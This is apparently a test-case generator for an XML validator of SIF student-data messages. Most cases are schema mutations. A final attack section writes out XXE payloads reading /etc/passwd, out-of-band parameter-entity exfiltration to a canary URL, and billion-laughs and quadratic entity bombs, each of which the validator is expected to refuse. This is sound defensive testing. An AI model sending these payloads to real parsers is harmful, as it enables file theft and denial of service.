        M("request-maxbuffersize", "SIF_Request without SIF_MaxBufferSize", m_remove(COND, BODY + "/s:SIF_MaxBufferSize")),
        M("request-query", "SIF_Request without SIF_Query or SIF_ExtendedQuery", m_remove(COND, BODY + "/s:SIF_Query")),
        M("request-queryobject", "SIF_Query without SIF_QueryObject", m_remove(COND, "//s:SIF_QueryObject")),
        M("request-queryobject-objectname", "SIF_QueryObject without ObjectName",
          m_attr(COND, "//s:SIF_QueryObject", "ObjectName", None)),
        M("request-conditiongroup-type", "SIF_ConditionGroup without Type", m_attr(COND, "//s:SIF_ConditionGroup", "Type", None)),
        M("request-conditions-type", "SIF_Conditions without Type", m_attr(COND, "//s:SIF_Conditions", "Type", None)),
        M("request-conditions", "SIF_ConditionGroup with no SIF_Conditions", m_remove(COND, "//s:SIF_Conditions")),
        M("request-condition-element", "SIF_Condition without SIF_Element",
          m_remove(COND, "//s:SIF_Condition[1]/s:SIF_Element")),
        M("request-condition-operator", "SIF_Condition without SIF_Operator",
          m_remove(COND, "//s:SIF_Condition[1]/s:SIF_Operator")),
        M("request-condition-value", "SIF_Condition without SIF_Value", m_remove(COND, "//s:SIF_Condition[1]/s:SIF_Value")),
        M("request-condition-all", "SIF_Conditions with no SIF_Condition", m_remove(COND, "//s:SIF_Condition")),
        M("response-requestmsgid", "SIF_Response without SIF_RequestMsgId", m_remove(VALID_RESP, BODY + "/s:SIF_RequestMsgId")),
        M("response-packetnumber", "SIF_Response without SIF_PacketNumber", m_remove(VALID_RESP, BODY + "/s:SIF_PacketNumber")),
        M("response-morepackets", "SIF_Response without SIF_MorePackets", m_remove(VALID_RESP, BODY + "/s:SIF_MorePackets")),
        M("response-objectdata", "SIF_Response without SIF_ObjectData/SIF_Error", m_remove(VALID_RESP, BODY + "/s:SIF_ObjectData")),
        M("response-error-category", "SIF_Error without SIF_Category", m_remove(ERR_RESP, "//s:SIF_Error/s:SIF_Category")),
        M("response-error-code", "SIF_Error without SIF_Code", m_remove(ERR_RESP, "//s:SIF_Error/s:SIF_Code")),
        M("response-error-desc", "SIF_Error without SIF_Desc", m_remove(ERR_RESP, "//s:SIF_Error/s:SIF_Desc")),
        M("ack-originalsourceid", "SIF_Ack without SIF_OriginalSourceId", m_remove(ACK, BODY + "/s:SIF_OriginalSourceId")),
        M("ack-originalmsgid", "SIF_Ack without SIF_OriginalMsgId", m_remove(ACK, BODY + "/s:SIF_OriginalMsgId")),
        M("ack-status", "SIF_Ack without SIF_Status or SIF_Error", m_remove(ACK, BODY + "/s:SIF_Status")),
        M("ack-status-code", "SIF_Status without SIF_Code", m_remove(ACK, "//s:SIF_Status/s:SIF_Code")),
        M("ack-error-code", "SIF_Ack/SIF_Error without SIF_Code", m_remove(ACK_ERR, "//s:SIF_Error/s:SIF_Code")),
        M("ack-error-category", "SIF_Ack/SIF_Error without SIF_Category", m_remove(ACK_ERR, "//s:SIF_Error/s:SIF_Category")),
        M("ack-agentacl-provideaccess", "SIF_AgentACL without SIF_ProvideAccess",
          m_remove("ack-agent-acl", "//s:SIF_AgentACL/s:SIF_ProvideAccess")),
        M("ack-inner-message-version", "pulled SIF_Message without Version",
          m_attr("ack-getmessage-with-message", "//s:SIF_Data/s:SIF_Message", "Version", None)),
        M("ack-inner-message-header", "pulled SIF_Request without SIF_Header",
          m_remove("ack-getmessage-with-message", "//s:SIF_Data/s:SIF_Message/*/s:SIF_Header")),
        M("event-objectdata", "SIF_Event without SIF_ObjectData", m_remove(EVENT_SP, BODY + "/s:SIF_ObjectData")),
        M("event-eventobject", "SIF_ObjectData without SIF_EventObject", m_remove(EVENT_SP, "//s:SIF_EventObject")),
        M("event-objectname", "SIF_EventObject without ObjectName", m_attr(EVENT_SP, "//s:SIF_EventObject", "ObjectName", None)),
        M("event-action", "SIF_EventObject without Action", m_attr(EVENT_SP, "//s:SIF_EventObject", "Action", None)),
        M("event-object", "SIF_EventObject with no object in it", m_remove(EVENT_SP, "//s:StudentPersonal")),
        M("event-studentpersonal-refid", "StudentPersonal without RefId", m_attr(EVENT_SP, "//s:StudentPersonal", "RefId", None)),
        M("provide-object", "SIF_Provide with no SIF_Object", m_remove("provide", BODY + "/s:SIF_Object")),
        M("provide-objectname", "SIF_Object without ObjectName", m_attr("provide", "//s:SIF_Object", "ObjectName", None)),
        M("subscribe-object", "SIF_Subscribe with no SIF_Object", m_remove("subscribe", BODY + "/s:SIF_Object")),
        M("subscribe-objectname", "SIF_Object without ObjectName",
          m_attr("subscribe", "//s:SIF_Object[1]", "ObjectName", None)),
        M("provision-provideobjects", "SIF_Provision without SIF_ProvideObjects",
          m_remove("provision", "//s:SIF_ProvideObjects")),
        M("provision-requestobjects", "SIF_Provision without SIF_RequestObjects",
          m_remove("provision", "//s:SIF_RequestObjects")),
        M("systemcontrol-data", "SIF_SystemControl without SIF_SystemControlData",
          m_remove("getmessage", "//s:SIF_SystemControlData")),
        M("systemcontrol-command", "SIF_SystemControlData with no command", m_remove("ping", "//s:SIF_Ping")),
        M("cancelrequests-notificationtype", "SIF_CancelRequests without SIF_NotificationType",
          m_remove("cancelrequests", "//s:SIF_NotificationType")),
        M("cancelrequests-requestmsgids", "SIF_CancelRequests without SIF_RequestMsgIds",
          m_remove("cancelrequests", "//s:SIF_RequestMsgIds")),
        M("cancelrequests-requestmsgid", "SIF_RequestMsgIds with no SIF_RequestMsgId",
          m_remove("cancelrequests", "//s:SIF_RequestMsgId")),
        M("locator-idstatus-in-response", "StudentLocator without IdStatus", m_attr(VALID_RESP, LOC, "IdStatus", None)),
        M("locator-transactionid-in-response", "StudentLocator without TransactionId",
          m_attr(VALID_RESP, LOC, "TransactionId", None)),
        M("locator-idstatus-in-example", "SIF_Example StudentLocator without IdStatus", m_attr(EXAMPLE, LOC, "IdStatus", None)),
        M("locator-transactionid-in-example", "SIF_Example StudentLocator without TransactionId",
          m_attr(EXAMPLE, LOC, "TransactionId", None)),
        M("locator-requestingagencyid-type", "RequestingAgencyId without Type",
          m_attr(EXAMPLE, "//s:RequestingAgencyId[1]", "Type", None)),
        M("locator-name-type", "Name without Type", m_attr(EXAMPLE, LOC + "/s:Name", "Type", None)),
        M("extendedelement-name", "SIF_ExtendedElement without Name",
          m_attr(EXAMPLE, "//s:SIF_ExtendedElement", "Name", None)),
        M("ambiguous-candidate-transactionid", "second candidate without TransactionId",
          m_attr(AMBIG, LOC + "[2]", "TransactionId", None)),
    ]
    # Data-model cardinality: enforced by the strict schema, relaxed by the lenient one.
    cases += [
        M("locator-stateprovinceid-valid", "Valid StudentLocator without StateProvinceId (strict)",
          m_remove(VALID_RESP, LOC + "/s:StateProvinceId"), lenient=ACCEPT),
        M("locator-stateprovinceid-ambiguous", "Ambiguous candidate without StateProvinceId (strict)",
          m_remove(AMBIG, LOC + "[1]/s:StateProvinceId"), lenient=ACCEPT),
        M("locator-stateprovinceid-example", "SIF_Example StudentLocator without StateProvinceId (strict)",
          m_remove(EXAMPLE, LOC + "/s:StateProvinceId"), lenient=ACCEPT),
        M("locator-contact-relationship", "Contact without Relationship (strict)",
          m_remove(EXAMPLE, "//s:Contact/s:Relationship"), lenient=ACCEPT),
        M("locator-name-lastname", "StudentLocator Name without LastName (strict)",
          m_remove(EXAMPLE, LOC + "/s:Name/s:LastName"), lenient=ACCEPT),
        M("studentpersonal-localid", "StudentPersonal without LocalId (strict)",
          m_remove(EVENT_SP, "//s:StudentPersonal/s:LocalId"), lenient=ACCEPT),
        M("studentpersonal-name", "StudentPersonal without its Name of record (strict)",
          m_remove(EVENT_SP, "//s:StudentPersonal/s:Name"), lenient=ACCEPT),
        M("enrollment-entrydate", "StudentSchoolEnrollment without EntryDate (strict)",
          m_remove(EVENT_SSE, "//s:EntryDate"), lenient=ACCEPT),
    ]
    return cases


def _value() -> list[Case]:
    V = lambda i, why, make, **kw: Case(f"value-{i}", "value", INVALID_VALUE, why, make, **kw)  # noqa: E731
    msgid = HDR + "/s:SIF_MsgId"
    cases = [
        V("msgid-lowercase", "GUIDs are uppercase hex", m_text(ACK, msgid, str.lower)),
        V("msgid-with-dashes", "registry-format GUID with dashes",
          m_text(ACK, msgid, lambda g: f"{g[:8]}-{g[8:12]}-{g[12:16]}-{g[16:20]}-{g[20:]}")),
        V("msgid-with-braces", "GUID in braces", m_text(ACK, msgid, lambda g: "{" + g + "}")),
        V("msgid-31-hex", "one hex digit short", m_text(ACK, msgid, lambda g: g[:31])),
        V("msgid-33-hex", "one hex digit too many", m_text(ACK, msgid, lambda g: g + "A")),
        V("msgid-non-hex", "G is not a hex digit", m_text(ACK, msgid, lambda g: "G" + g[1:])),
        V("msgid-empty", "empty SIF_MsgId", m_text(ACK, msgid, "")),
        V("msgid-inner-space", "space inside the GUID", m_text(ACK, msgid, lambda g: g[:16] + " " + g[16:])),
        V("msgid-zero-width-space", "U+200B hidden inside the GUID", m_text(ACK, msgid, lambda g: g[:16] + "\u200b" + g[16:])),
        V("msgid-fullwidth-digits", "full-width digits look like hex", m_text(ACK, msgid, lambda g: "\uff10" * 32)),
        V("transactionid-lowercase", "lowercase TransactionId", m_attr(VALID_RESP, LOC, "TransactionId", str.lower)),
        V("transactionid-with-dashes", "TransactionId with dashes",
          m_attr(VALID_RESP, LOC, "TransactionId", lambda g: f"{g[:8]}-{g[8:12]}-{g[12:16]}-{g[16:20]}-{g[20:]}")),
        V("transactionid-31-hex", "TransactionId one digit short", m_attr(EXAMPLE, LOC, "TransactionId", lambda g: g[:31])),
        V("transactionid-33-hex", "TransactionId one digit too many", m_attr(EXAMPLE, LOC, "TransactionId", lambda g: g + "0")),
        V("originalmsgid-lowercase", "lowercase SIF_OriginalMsgId", m_text(ACK, BODY + "/s:SIF_OriginalMsgId", str.lower)),
        V("requestmsgid-lowercase", "lowercase SIF_RequestMsgId", m_text(VALID_RESP, BODY + "/s:SIF_RequestMsgId", str.lower)),
        V("cancel-requestmsgid-lowercase", "lowercase id in SIF_CancelRequests",
          m_text("cancelrequests", "//s:SIF_RequestMsgId", str.lower)),
        V("studentpersonalrefid-lowercase", "lowercase StudentPersonalRefId",
          m_text(EXAMPLE, "//s:StudentPersonalRefId", str.lower)),
        V("studentpersonal-refid-lowercase", "lowercase StudentPersonal/@RefId",
          m_attr(EVENT_SP, "//s:StudentPersonal", "RefId", str.lower)),
        V("idstatus-matched", "IdStatus 'Matched' is not in the 2.x list", m_attr(VALID_RESP, LOC, "IdStatus", "Matched")),
        V("idstatus-lowercase", "enumerations are case-sensitive", m_attr(VALID_RESP, LOC, "IdStatus", "valid")),
        V("idstatus-empty", "empty IdStatus", m_attr(EXAMPLE, LOC, "IdStatus", "")),
        V("mode-poll", "SIF_Mode is Push or Pull", m_text(REG, "//s:SIF_Mode", "Poll")),
        V("mode-lowercase", "SIF_Mode 'pull'", m_text(REG, "//s:SIF_Mode", "pull")),
        V("morepackets-maybe", "SIF_MorePackets is Yes or No", m_text(VALID_RESP, "//s:SIF_MorePackets", "maybe")),
        V("morepackets-lowercase", "SIF_MorePackets 'yes'", m_text(VALID_RESP, "//s:SIF_MorePackets", "yes")),
        V("morepackets-true", "SIF_MorePackets 'true'", m_text(VALID_RESP, "//s:SIF_MorePackets", "true")),
        V("maxbuffersize-negative", "unsignedInt cannot be negative", m_text(REG, "//s:SIF_MaxBufferSize", "-1")),
        V("maxbuffersize-huge", "2^32 overflows unsignedInt", m_text(REG, "//s:SIF_MaxBufferSize", "4294967296")),
        V("maxbuffersize-enormous", "a 400-digit number", m_text(REG, "//s:SIF_MaxBufferSize", "9" * 400)),
        V("maxbuffersize-non-numeric", "'abc'", m_text(REG, "//s:SIF_MaxBufferSize", "abc")),
        V("maxbuffersize-decimal", "'1.5'", m_text(COND, "//s:SIF_MaxBufferSize", "1.5")),
        V("maxbuffersize-empty", "empty SIF_MaxBufferSize", m_text(COND, "//s:SIF_MaxBufferSize", "")),
        V("maxbuffersize-hex", "'0x100000'", m_text(COND, "//s:SIF_MaxBufferSize", "0x100000")),
        V("packetnumber-zero", "SIF_PacketNumber is a positiveInteger", m_text(VALID_RESP, "//s:SIF_PacketNumber", "0")),
        V("packetnumber-negative", "SIF_PacketNumber -1", m_text(VALID_RESP, "//s:SIF_PacketNumber", "-1")),
        V("packetnumber-non-numeric", "SIF_PacketNumber 'one'", m_text(VALID_RESP, "//s:SIF_PacketNumber", "one")),
        V("packetnumber-fullwidth", "full-width digit '１'", m_text(VALID_RESP, "//s:SIF_PacketNumber", "\uff11")),
        V("packetnumber-arabic-indic", "Arabic-Indic digit '١'", m_text(VALID_RESP, "//s:SIF_PacketNumber", "\u0661")),
        V("birthdate-month-13", "BirthDate 2017-13-45", m_text(EXAMPLE, "//s:BirthDate", "2017-13-45")),
        V("birthdate-feb-30", "BirthDate 2017-02-30", m_text(EXAMPLE, "//s:BirthDate", "2017-02-30")),
        V("birthdate-us-format", "BirthDate 04/12/2017", m_text(EVENT_SP, "//s:BirthDate", "04/12/2017")),
        V("birthdate-unpadded", "BirthDate 2017-4-12", m_text(EVENT_SP, "//s:BirthDate", "2017-4-12")),
        V("effectivedate-bad", "EffectiveDate 'soon'", m_text(EXAMPLE, "//s:EffectiveDate", "soon")),
        V("entrydate-bad", "EntryDate 2026-00-19", m_text(EVENT_SSE, "//s:EntryDate", "2026-00-19")),
        V("gender-x", "Gender is M, F or U", m_text(EXAMPLE, "//s:Gender", "X")),
        V("gender-word", "Gender 'Female'", m_text(EVENT_SP, "//s:Gender", "Female")),
        V("hispaniclatino-maybe", "HispanicLatino is Yes or No", m_text(EXAMPLE, "//s:HispanicLatino", "Maybe")),
        V("gradelevel-13", "no grade 13", m_text(EXAMPLE, LOC + "/s:GradeLevel/s:Code", "13")),
        V("name-type-99", "Name/@Type 99 is not a code", m_attr(EXAMPLE, LOC + "/s:Name", "Type", "99")),
        V("requestingagencyid-type-state", "RequestingAgencyId Type is ESA, LEA or School",
          m_attr(EXAMPLE, "//s:RequestingAgencyId[1]", "Type", "State")),
        V("status-code-abc", "SIF_Status/SIF_Code 'abc'", m_text(ACK, "//s:SIF_Status/s:SIF_Code", "abc")),
        V("status-code-4", "status 4 existed only in SIF 1.x", m_text(ACK, "//s:SIF_Status/s:SIF_Code", "4")),
        V("status-code-10", "no status 10", m_text(ACK, "//s:SIF_Status/s:SIF_Code", "10")),
        V("error-code-abc", "SIF_Error/SIF_Code 'abc'", m_text(ACK_ERR, "//s:SIF_Error/s:SIF_Code", "abc")),
        V("error-category-99", "no category 99", m_text(ACK_ERR, "//s:SIF_Error/s:SIF_Category", "99")),
        V("error-category-negative", "category -1", m_text(ERR_RESP, "//s:SIF_Error/s:SIF_Category", "-1")),
        V("error-category-abc", "category 'abc'", m_text(ERR_RESP, "//s:SIF_Error/s:SIF_Category", "abc")),
        V("error-desc-too-long", "SIF_Desc is at most 1024 characters", m_text(ERR_RESP, "//s:SIF_Error/s:SIF_Desc", "d" * 1025)),
        V("sourceid-65-chars", "SIF_SourceId is at most 64 characters", m_text(ACK, HDR + "/s:SIF_SourceId", "S" * 65)),
        V("destinationid-65-chars", "SIF_DestinationId is at most 64 characters",
          m_text(ACK, HDR + "/s:SIF_DestinationId", "D" * 65)),
        V("register-name-65-chars", "SIF_Name is at most 64 characters", m_text(REG, BODY + "/s:SIF_Name", "N" * 65)),
        V("register-version-bad-wildcard", "SIF_Version '2.x'", m_text(REG, BODY + "/s:SIF_Version[1]", "2.x")),
        V("request-version-bad", "SIF_Request/SIF_Version 'latest'", m_text(COND, BODY + "/s:SIF_Version", "latest")),
        V("event-action-update", "Action is Add, Change or Delete", m_attr(EVENT_SP, "//s:SIF_EventObject", "Action", "Update")),
        V("operator-like", "SIF_Operator has no LIKE", m_text(COND, "//s:SIF_Condition[1]/s:SIF_Operator", "LIKE")),
        V("conditiongroup-type-xor", "SIF_ConditionGroup Type 'Xor'", m_attr(COND, "//s:SIF_ConditionGroup", "Type", "Xor")),
        V("notificationtype-loud", "SIF_NotificationType is Standard or None",
          m_text("cancelrequests", "//s:SIF_NotificationType", "Loud")),
        V("extendedquerysupport-maybe", "xs:boolean 'maybe'", m_text("provide", "//s:SIF_ExtendedQuerySupport", "maybe")),
        V("timestamp-not-a-date", "SIF_Timestamp 'now'", m_text(ACK, HDR + "/s:SIF_Timestamp", "now")),
        V("xsi-nil-bogus-value", "xsi:nil must be a boolean",
          m_attr(ACK, BODY + "/s:SIF_OriginalMsgId", f"{{{XSI}}}nil", "maybe")),
        V("pulled-message-msgid-lowercase", "lowercase SIF_MsgId in the message inside SIF_Data",
          m_text("ack-getmessage-with-message", "//s:SIF_Data/s:SIF_Message/*/s:SIF_Header/s:SIF_MsgId", str.lower)),
    ]
    return cases


def _structure() -> list[Case]:
    T = lambda i, why, make, **kw: Case(f"structure-{i}", "structure", GENERIC_VALIDATION, why, make, **kw)  # noqa: E731
    return [
        T("header-timestamp-before-msgid", "SIF_Header order is MsgId, Timestamp, ...",
          m_move_before(ACK, HDR + "/s:SIF_Timestamp", HDR + "/s:SIF_MsgId")),
        T("header-sourceid-before-timestamp", "SIF_SourceId before SIF_Timestamp",
          m_move_before(ACK, HDR + "/s:SIF_SourceId", HDR + "/s:SIF_Timestamp")),
        T("header-after-body-content", "SIF_Header after SIF_Status",
          lambda env: ser(_move_after(tree(ACK), HDR, BODY + "/s:SIF_Status"))),
        T("register-mode-before-maxbuffersize", "SIF_Mode before SIF_MaxBufferSize",
          m_move_before(REG, "//s:SIF_Mode", "//s:SIF_MaxBufferSize")),
        T("response-morepackets-before-packetnumber", "SIF_MorePackets before SIF_PacketNumber",
          m_move_before(VALID_RESP, "//s:SIF_MorePackets", "//s:SIF_PacketNumber")),
        T("ack-status-before-originalmsgid", "SIF_Status before SIF_OriginalMsgId",
          m_move_before(ACK, BODY + "/s:SIF_Status", BODY + "/s:SIF_OriginalMsgId")),
        T("locator-localid-before-stateprovinceid", "StudentLocator children out of order",
          m_move_before(VALID_RESP, LOC + "/s:LocalId", LOC + "/s:StateProvinceId")),
        T("locator-demographics-before-name", "Demographics before Name",
          m_move_before(EXAMPLE, LOC + "/s:Demographics", LOC + "/s:Name")),
        T("header-duplicated", "two SIF_Header elements",
          lambda env: ser(_dup(tree(ACK), HDR))),
        T("msgid-duplicated", "two SIF_MsgId elements", lambda env: ser(_dup(tree(ACK), HDR + "/s:SIF_MsgId"))),
        T("packetnumber-duplicated", "two SIF_PacketNumber elements",
          lambda env: ser(_dup(tree(VALID_RESP), "//s:SIF_PacketNumber"))),
        T("stateprovinceid-duplicated", "two StateProvinceId elements",
          lambda env: ser(_dup(tree(VALID_RESP), LOC + "/s:StateProvinceId"))),
        T("unknown-child-in-header", "SIF_Header/SIF_Foo", m_insert(ACK, HDR, "<SIF_Foo>x</SIF_Foo>")),
        T("unknown-child-in-register", "SIF_Register/SIF_Password", m_insert(REG, BODY, "<SIF_Password>hunter2</SIF_Password>")),
        T("unknown-child-in-ack", "SIF_Ack/Note after SIF_Status", m_insert(ACK, BODY, "<Note>x</Note>")),
        T("unknown-child-in-locator", "StudentLocator/FavouriteColour", m_insert(VALID_RESP, LOC, "<FavouriteColour>blue</FavouriteColour>")),
        T("unknown-child-in-ping", "SIF_Ping must be empty", m_insert("ping", "//s:SIF_Ping", "<SIF_Data/>")),
        T("unknown-child-in-unregister", "SIF_Unregister holds only the header", m_insert("unregister", BODY, "<SIF_Name>x</SIF_Name>")),
        T("text-in-ping", "text inside the empty SIF_Ping", m_text("ping", "//s:SIF_Ping", "please")),
        T("locator-refid", "StudentLocator/@RefId is 3.x only", m_attr(VALID_RESP, LOC, "RefId", "0123456789ABCDEF0123456789ABCDEF")),
        T("locator-refid-in-example", "StudentLocator/@RefId in SIF_Example",
          m_attr(EXAMPLE, LOC, "RefId", "0123456789ABCDEF0123456789ABCDEF")),
        T("unknown-attribute-on-root", "SIF_Message/@Foo", m_attr(ACK, "/s:SIF_Message", "Foo", "bar")),
        T("unknown-attribute-on-header", "SIF_Header/@Priority", m_attr(ACK, HDR, "Priority", "high")),
        T("unknown-attribute-on-msgid", "SIF_MsgId/@Type", m_attr(ACK, HDR + "/s:SIF_MsgId", "Type", "GUID")),
        T("foreign-attribute-on-root", "a vendor-namespace attribute on SIF_Message",
          m_attr(ACK, "/s:SIF_Message", "{urn:vendor}trace", "1")),
        T("text-in-header", "text directly inside SIF_Header", m_text(ACK, HDR, "junk")),
        T("text-in-ack", "text directly inside SIF_Ack", lambda env: valid(ACK).replace(b"<SIF_Status>", b"junk<SIF_Status>", 1)),
        T("ack-status-and-error", "SIF_Ack holds SIF_Status or SIF_Error, not both",
          m_insert(ACK, BODY, "<SIF_Error><SIF_Category>1</SIF_Category><SIF_Code>1</SIF_Code><SIF_Desc>x</SIF_Desc></SIF_Error>")),
        T("response-error-and-objectdata", "SIF_Response holds one of SIF_Error/SIF_ObjectData",
          m_insert(VALID_RESP, BODY, "<SIF_Error><SIF_Category>8</SIF_Category><SIF_Code>1</SIF_Code><SIF_Desc>x</SIF_Desc></SIF_Error>")),
        T("example-two-locators", "SIF_Example holds exactly one object",
          lambda env: ser(_dup(tree(EXAMPLE), LOC))),
        T("status-data-two-children", "SIF_Status/SIF_Data holds one element",
          lambda env: ser(_dup(tree("ack-agent-acl"), "//s:SIF_AgentACL"))),
        T("eventobject-two-objects", "one object per SIF_EventObject", lambda env: ser(_dup(tree(EVENT_SP), "//s:StudentPersonal"))),
        T("objectdata-foreign-namespace-object", "StudentLocator in a vendor namespace",
          lambda env: valid(VALID_RESP).replace(b"<StudentLocator ", b'<StudentLocator xmlns="urn:vendor" ', 1)),
        T("locator-child-no-namespace", "StateProvinceId with xmlns=\"\"",
          lambda env: valid(VALID_RESP).replace(b"<StateProvinceId>", b'<StateProvinceId xmlns="">', 1)),
        T("xsi-type-unknown", "xsi:type naming a type that does not exist",
          lambda env: valid(ACK).replace(b"<SIF_MsgId>", b'<SIF_MsgId xmlns:xsi="' + XSI.encode() + b'" xsi:type="NoSuchType">', 1)),
        T("xsi-nil-on-non-nillable", "xsi:nil on SIF_MsgId, which is not nillable",
          lambda env: valid(ACK).replace(b"<SIF_MsgId>", b'<SIF_MsgId xmlns:xsi="' + XSI.encode() + b'" xsi:nil="true">', 1)),
        T("element-in-simple-content", "markup inside SIF_SourceId (a simple type)",
          m_replace(ACK, b"<SIF_SourceId>ITC01", b"<SIF_SourceId><b>ITC01</b>")),
        T("element-inside-maxbuffersize", "SIF_Version nested inside SIF_MaxBufferSize",
          m_replace(REG, b"<SIF_MaxBufferSize>1048576", b"<SIF_MaxBufferSize><SIF_Version>2.6</SIF_Version>1048576")),
    ]


def _move_after(root, path, after):
    node = find(root, path)[0]
    find(root, after)[0].addnext(node)
    return root


def _dup(root, path):
    import copy

    node = find(root, path)[0]
    node.addnext(copy.deepcopy(node))
    return root


# ---------------------------------------------------------------------------
# Attacks


def _lol(levels: int = 10, fan: int = 10) -> tuple[str, str]:
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        ents.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * fan + '">')
    return "<!DOCTYPE SIF_Message [" + "".join(ents) + "]>", f"&lol{levels - 1};"


def _quadratic(size: int = 100_000, refs: int = 20_000) -> tuple[str, str]:
    return '<!DOCTYPE SIF_Message [<!ENTITY a "' + "x" * size + '">]>', "&a;" * refs


def _u16(text: str, big_endian: bool = False) -> bytes:
    if big_endian:
        return b"\xfe\xff" + text.encode("utf-16-be")
    return text.encode("utf-16")  # BOM + little endian


def _attack_doc(prolog: str, ref: str = "", *, where: str = "<SIF_SourceId>", decl: str = "") -> Callable[[Env], str]:
    def make(env: Env) -> str:
        body = _ack_str()
        if ref:
            body = body.replace(where, where + ref, 1)
        return decl + _fmt(prolog, env) + body
    return make


def _attacks() -> list[Case]:
    cases: list[Case] = []
    A = lambda i, why, make, expect=NOT_WELL_FORMED, **kw: cases.append(Case(f"attack-{i}", "attack", expect, why, make, **kw))  # noqa: E731

    def utf8(make_str, pre: bytes = b""):
        return lambda env: pre + make_str(env).encode("utf-8")

    def utf16(make_str, big_endian: bool = False):
        return lambda env: _u16(make_str(env), big_endian)

    xxe_file = '<!DOCTYPE SIF_Message [<!ENTITY xxe SYSTEM "@SENTINEL_URI@">]>'
    xxe_passwd = '<!DOCTYPE SIF_Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xxe_path = '<!DOCTYPE SIF_Message [<!ENTITY xxe SYSTEM "@SENTINEL_PATH@">]>'
    xxe_net9 = '<!DOCTYPE SIF_Message [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/">]>'
    xxe_canary = '<!DOCTYPE SIF_Message [<!ENTITY xxe SYSTEM "@CANARY@xxe">]>'
    pe_canary = '<!DOCTYPE SIF_Message [<!ENTITY % pe SYSTEM "@CANARY@pe.dtd"> %pe;]>'
    pe_file = '<!DOCTYPE SIF_Message [<!ENTITY % pe SYSTEM "@SENTINEL_DTD_URI@"> %pe;]>'
    pe_oob = ('<!DOCTYPE SIF_Message [<!ENTITY % file SYSTEM "@SENTINEL_URI@">'
              '<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'@CANARY@?%file;\'>"> %wrap; %send;]>')
    ext_file = '<!DOCTYPE SIF_Message SYSTEM "@SENTINEL_DTD_URI@">'
    ext_net = '<!DOCTYPE SIF_Message SYSTEM "@CANARY@sif.dtd">'
    ext_public = '<!DOCTYPE SIF_Message PUBLIC "-//SIF//DTD SIF 2.x//EN" "@CANARY@public.dtd">'
    internal_only = '<!DOCTYPE SIF_Message [<!ELEMENT SIF_Message ANY>]>'
    attlist = '<!DOCTYPE SIF_Message [<!ATTLIST SIF_Message Version CDATA "2.6">]>'
    lol, lol_ref = _lol()
    quad, quad_ref = _quadratic()
    decl16 = '<?xml version="1.0" encoding="UTF-16"?>'

    # Entity declarations in UTF-8: refused by the byte scan before libxml2 runs.
    A("doctype-text-inside-cdata", "'<!DOCTYPE' is refused wherever it appears in the bytes, even as CDATA "
      "text: the parser never gets to decide whether it is a DTD (no SIF message needs it)",
      m_replace(ERR_RESP, b"<SIF_Desc>", b"<SIF_Desc><![CDATA[<!DOCTYPE x SYSTEM 'file:///etc/passwd'>]]>"),
      prefilter=True)
    A("xxe-file-sentinel", "external entity pointing at a local file (sentinel)", utf8(_attack_doc(xxe_file, "&xxe;")), prefilter=True)
    A("xxe-file-etc-passwd", "classic XXE on /etc/passwd", utf8(_attack_doc(xxe_passwd, "&xxe;")), prefilter=True)
    A("xxe-plain-path", "external entity with a bare path", utf8(_attack_doc(xxe_path, "&xxe;")), prefilter=True)
    A("xxe-in-attribute", "entity referenced from an attribute value",
      utf8(_attack_doc(xxe_file, "&xxe;", where='Version="2.6')), prefilter=True)
    A("xxe-network-port-9", "external entity on http://127.0.0.1:9/", utf8(_attack_doc(xxe_net9, "&xxe;")), prefilter=True)
    A("xxe-network-canary", "external entity on a listening canary", utf8(_attack_doc(xxe_canary, "&xxe;")), prefilter=True)
    A("parameter-entity-network", "external parameter entity (DTD fetch)", utf8(_attack_doc(pe_canary)), prefilter=True)
    A("parameter-entity-file", "external parameter entity from a file", utf8(_attack_doc(pe_file, "&leak;")), prefilter=True)
    A("parameter-entity-oob-exfiltration", "out-of-band exfiltration through nested parameter entities",
      utf8(_attack_doc(pe_oob)), prefilter=True)
    A("billion-laughs", "10^9 'lol' by nested entity expansion", utf8(_attack_doc(lol, lol_ref)), heavy=True, prefilter=True)
    A("quadratic-blowup", "100 KB entity referenced 20,000 times", utf8(_attack_doc(quad, quad_ref)), heavy=True, prefilter=True)
    A("entity-declared-mid-document", "'<!ENTITY' text anywhere is refused",
      utf8(_attack_doc("", '<!ENTITY x "y">')), prefilter=True)
    # DOCTYPE without entities, at the start: refused by the byte scan.
    A("external-dtd-file", "DOCTYPE with a SYSTEM id on a local file", utf8(_attack_doc(ext_file)), prefilter=True)
    A("external-dtd-network", "DOCTYPE with a SYSTEM id on the canary", utf8(_attack_doc(ext_net)), prefilter=True)
    A("external-dtd-public", "DOCTYPE with a PUBLIC id", utf8(_attack_doc(ext_public)), prefilter=True)
    A("internal-subset-only", "internal subset without entities", utf8(_attack_doc(internal_only)), prefilter=True)
    A("bare-doctype", "<!DOCTYPE SIF_Message> with no subset", utf8(_attack_doc("<!DOCTYPE SIF_Message>")), prefilter=True)
    A("attlist-default-injection", "ATTLIST supplying a default Version", utf8(_attack_doc(attlist)), prefilter=True)
    A("doctype-after-xml-declaration", "XML declaration then DOCTYPE",
      utf8(_attack_doc(ext_file, decl='<?xml version="1.0"?>')), prefilter=True)
    A("doctype-after-bom", "UTF-8 BOM then DOCTYPE", utf8(_attack_doc(ext_file), pre=b"\xef\xbb\xbf"), prefilter=True)
    A("doctype-after-comment", "comment then DOCTYPE", utf8(_attack_doc("<!-- hi -->" + ext_file)), prefilter=True)
    A("doctype-after-pi", "processing instruction then DOCTYPE",
      utf8(_attack_doc('<?sif hint?>' + ext_file)), prefilter=True)
    A("doctype-after-leading-whitespace-and-bom", "BOM, newlines, then DOCTYPE",
      utf8(_attack_doc("\n\n  " + ext_file), pre=b"\xef\xbb\xbf"), prefilter=True)
    # DOCTYPE that slips past the byte scan (a '<' inside a comment or PI, or past
    # the first 4 KB): libxml2 sees it; the tree's DTD is refused afterwards, and
    # nothing may be read or fetched meanwhile.
    A("doctype-after-comment-with-markup", "comment holding '<x>' then DOCTYPE SYSTEM file",
      utf8(_attack_doc("<!-- <x> -->" + ext_file, "&leak;")), prefilter=True)
    A("doctype-after-pi-with-markup", "PI holding '<' then DOCTYPE SYSTEM canary",
      utf8(_attack_doc("<?sif a<b?>" + ext_net)), prefilter=True)
